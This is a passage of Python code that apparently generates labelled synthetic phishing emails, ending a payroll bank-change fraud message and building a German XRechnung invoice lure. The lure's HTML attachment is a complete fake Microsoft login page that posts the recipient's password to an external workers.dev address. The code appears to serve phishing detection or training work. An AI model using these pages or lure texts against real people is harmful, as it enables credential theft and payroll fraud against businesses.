             "Dezember-Abrechnung die neue Bankverbindung hinterlegen? Das Weihnachtsgeld soll auch schon dorthin.", "",
             "Kontoinhaber: Bernd Pauls\nIBAN: %s\nBank: N26" % ids.fmt_iban(mule), "",
             "Ich schreibe von meiner privaten Adresse, weil ich gerade im Urlaub bin und keinen VPN-Zugang habe. "
             "Eine kurze Rückmeldung hier reicht mir.", "",
             "Danke und Gruß", "Bernd"]
    t, ht = gmail_parts(m, paras)
    root = alt(t, ht, m.boundary("gmail"))
    return systems.gmail(m, h, root)


# --------------------------------------------------------------------- 08
@msg(A, 8, "de", "erechnung-html-anhang")
def a08(m):
    post = "https://xrechnung-viewer.billing-portal.workers.dev/api/v2/session"
    m.what = ("'Buchhaltung Kempkens Jungpflanzen' sends 'E-Rechnung 2026-1184 (XRechnung)' as an HTML file that must be "
              "opened in the browser and unlocked with the company Microsoft account.")
    m.why = ("Compromised small-business mailbox at IONOS (passes SPF/DKIM/DMARC) exploiting the German e-invoice mandate; "
             "the HTML attachment is a local fake Microsoft sign-in page pre-filled with the recipient's address that posts "
             "credentials to a workers.dev endpoint; no real XRechnung XML attached.")
    h = H(("Buchhaltung Kempkens Jungpflanzen", "buchhaltung@kempkens-jungpflanzen.de"), [co.P("ap")],
          "E-Rechnung 2026-1184 (XRechnung) - Kempkens Jungpflanzen GbR", D(2026, 12, 2, 11, 21, 3))
    text = ("Sehr geehrte Damen und Herren,\n\n"
            "anbei erhalten Sie unsere Rechnung 2026-1184 als E-Rechnung im Format XRechnung.\n\n"
            "Gemäß den neuen Vorgaben zur E-Rechnung ist die Datei zum Schutz Ihrer Daten verschlüsselt. Zur Anzeige "
            "öffnen Sie die Datei bitte im Browser und bestätigen den Abruf mit Ihrem Firmen-E-Mail-Konto.\n\n"
            "Mit freundlichen Grüßen\n\nKempkens Jungpflanzen GbR\nBuchhaltung\nAm Lingsterhof 5 · 47652 Weeze\n")
    page = ('<!DOCTYPE html>\n<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
            '<title>E-Rechnung 2026-1184 | Dokumentenansicht</title>\n<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;'
            'background:#f3f2f1}.box{width:440px;margin:60px auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px}'
            '.logo{font-size:15px;color:#5e5e5e;margin-bottom:18px}h1{font-size:24px;font-weight:600;margin:0 0 12px}'
            'input{width:100%%;padding:8px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0}'
            'button{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right;margin-top:16px}'
            '.doc{font-size:13px;color:#333;background:#eef5fb;border-left:3px solid #0067b8;padding:8px 10px;margin-bottom:16px}'
            '</style></head>\n<body><div class="box"><div class="logo">&#9632;&#9632; Microsoft</div>'
            '<div class="doc">E-Rechnung <b>2026-1184</b> &middot; XRechnung 3.0 &middot; 1 Dokument (PDF/XML)<br>'
            'Absender: Kempkens Jungpflanzen GbR</div><h1>Anmelden</h1>'
            '<p style="font-size:13px">Melden Sie sich an, um das Dokument zu entschlüsseln.</p>'
            '<form method="post" action="%s">\n<input type="email" name="login" value="jana.schuettler@example.com">\n'
            '<input type="password" name="passwd" placeholder="Kennwort">\n<input type="hidden" name="doc" value="2026-1184">\n'
            '<button type="submit">Anmelden</button></form><p style="clear:both;font-size:12px;color:#666;padding-top:20px">'
            'Angemeldet bleiben? Nein &middot; Kennwort vergessen?</p></div></body></html>\n') % post
    m.fact("URL", post)
    tp = m.text(text, "UTF-8", "quoted-printable")
    att = m.att(page.encode("utf-8"), "text/html", "XRechnung_2026-1184.html", cte="base64")
    att.charset = "UTF-8"
    root = mixed([tp, att], m.boundary("java"))
    return systems.ionos(m, h, root, client_ip="192.0.2.211")
